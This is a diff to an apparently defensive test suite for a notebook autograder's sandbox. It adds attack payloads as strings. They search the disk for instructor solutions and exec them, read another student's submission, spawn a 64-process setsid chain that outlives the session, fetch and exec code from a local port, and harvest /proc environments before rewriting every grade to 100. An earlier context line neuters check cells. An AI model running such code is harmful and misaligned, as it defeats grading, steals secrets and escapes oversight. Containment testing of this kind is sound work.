@@ -190,3 +190,110 @@ ATTACKS = [
              "    return ['pass\\n'] if ('check_' in text or '__course_probe' in text) else lines\n"
              "get_ipython().input_transformers_post.append(neuter)\n"]}),
 ]
+
+# Containment: each of these reads or reaches something outside the kernel's allowlist and, if
+# it succeeded, would run the instructor's answers (scoring above its honest work), leave a
+# process behind, or change the gradebook.
+RUN_SOLUTION_CELLS = (
+    "def run_solution_cells(text):\n"
+    "    import json\n"
+    "    try:\n"
+    "        cells = json.loads(text)['cells']\n"
+    "    except Exception:\n"
+    "        return False\n"
+    "    ran = False\n"
+    "    for cell in cells:\n"
+    "        code = ''.join(cell.get('source', ''))\n"
+    "        if 'BEGIN SOLUTION' in code:\n"
+    "            try:\n"
+    "                exec(code, globals())\n"
+    "                ran = True\n"
+    "            except Exception:\n"
+    "                pass\n"
+    "    return ran\n"
+)
+CONTAINMENT = [
+    dict(name="second_copy_of_solutions", what="searches the whole disk for any copy of solutions/ and runs it",
+         base="stub", honest=[],
+         extra={"mean_pool": [RUN_SOLUTION_CELLS +
+             "import os\n"
+             "found = []\n"
+             "home = os.path.expanduser('~')\n"
+             "for top in ['{SECOND_COPY}', '/tmp', '/var/tmp', '/root', '/home', '/']:   # likely places first\n"
+             "    for folder, dirs, files in os.walk(top):\n"
+             "        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ('/proc', '/sys', '/dev')]\n"
+             "        for name in files:\n"
+             "            if name.endswith('.ipynb'):\n"
+             "                try:\n"
+             "                    if run_solution_cells(open(os.path.join(folder, name)).read()):\n"
+             "                        found.append(os.path.join(folder, name))\n"
+             "                except OSError:\n"
+             "                    pass\n"
+             "print('solution copies run:', found)\n"]}),
+    dict(name="copycat_by_path", what="runs another student's submission, named by absolute and relative paths",
+         base="stub", honest=[],
+         extra={"mean_pool": [RUN_SOLUTION_CELLS +
+             "import os\n"
+             "other = '{OTHER_SUBMISSION}'\n"
+             "candidates = [other, os.path.relpath(other), '../' * 12 + other.lstrip('/')]\n"
+             "for path in candidates:\n"
+             "    try:\n"
+             "        print(path, run_solution_cells(open(path).read()))\n"
+             "    except OSError as error:\n"
+             "        print('refused', path, error)\n"]}),
+    dict(name="setsid_chain", what="a chain of 64 nested processes, each in a new session, outliving the notebook",
+         base="solution", honest=ALL,
+         extra={"mean_pool": [
+             "import os, subprocess, time\n"
+             "chain = 'if [ $1 -gt 0 ]; then setsid sh -c \"$0\" \"$0\" $(($1 - 1)) $2 & fi; sleep 60; true'\n"
+             "subprocess.Popen(['sh', '-c', chain, chain, '64', '{MARKER}'], start_new_session=True)\n"
+             "def alive():\n"
+             "    found = 0\n"
+             "    for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
+             "        try:\n"
+             "            found += b'{MARKER}' in open(f'/proc/{pid}/cmdline', 'rb').read()\n"
+             "        except OSError:\n"
+             "            pass\n"
+             "    return found\n"
+             "stop = time.time() + 10\n"
+             "while alive() < 65 and time.time() < stop:\n"
+             "    time.sleep(0.1)\n"
+             "if alive() < 65:\n"
+             "    raise RuntimeError(f'chain incomplete: {alive()} of 65 processes started')\n"]}),
+    dict(name="network_fetch_answers", what="fetches the answers from a server on 127.0.0.1 (and PostgreSQL's port)",
+         base="stub", honest=[],
+         extra={"mean_pool": [
+             "import socket\n"
+             "for port in ({ANSWER_PORT}, 5432):\n"
+             "    try:\n"
+             "        with socket.create_connection(('127.0.0.1', port), timeout=3) as connection:\n"
+             "            code = connection.makefile().read()\n"
+             "        exec(code, globals())\n"
+             "        print('connected to', port)\n"
+             "    except OSError as error:\n"
+             "        print('no connection to', port, error)\n"]}),
+    dict(name="proc_secrets_and_gradebook_rewrite",
+         what="reads every process's command line and environment for the gradebook, then rewrites grades",
+         base="stub", honest=[],
+         extra={"mean_pool": [
+             "import os, re, sqlite3\n"
+             "seen = []\n"
+             "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
+             "    for name in ('cmdline', 'environ'):\n"
+             "        try:\n"
+             "            seen.append(open(f'/proc/{pid}/{name}', 'rb').read().decode(errors='replace'))\n"
+             "        except OSError:\n"
+             "            pass\n"
+             "text = ' '.join(seen)\n"
+             "paths = re.findall(r'sqlite:///([^\\x00 ]+)', text) + ['{GRADEBOOK}']\n"
+             "for path in paths:\n"
+             "    try:\n"
+             "        db = sqlite3.connect(f'file:{path}?mode=rw', uri=True)\n"
+             "        db.execute('UPDATE grade SET manual_score = 100')\n"
+             "        db.commit()\n"
+             "        print('rewrote', path)\n"
+             "    except Exception as error:\n"
+             "        print('refused', path, error)\n"
+             "raise RuntimeError('processes seen: ' + text[:5000])\n"]}),
+]
+ATTACKS += CONTAINMENT
